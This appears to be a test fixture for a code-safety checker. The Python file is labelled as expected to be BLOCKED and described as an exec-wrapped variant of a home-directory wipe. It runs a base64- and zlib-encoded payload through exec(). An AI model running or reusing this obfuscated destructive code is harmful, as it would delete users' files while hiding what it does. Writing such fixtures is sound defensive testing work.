# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/rm_rf_home.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwlyzEOgzAMBdA9p/hKhyZDfZ3OVTHEEokj2wh16dkZePt74C2THdEYh7M9HU07Y9V9YcMp0WAdL1spSZ9qAfWUpsmIkr87f4aMDcckolyTOvnPg3vJ98I/1wusbiD8')))
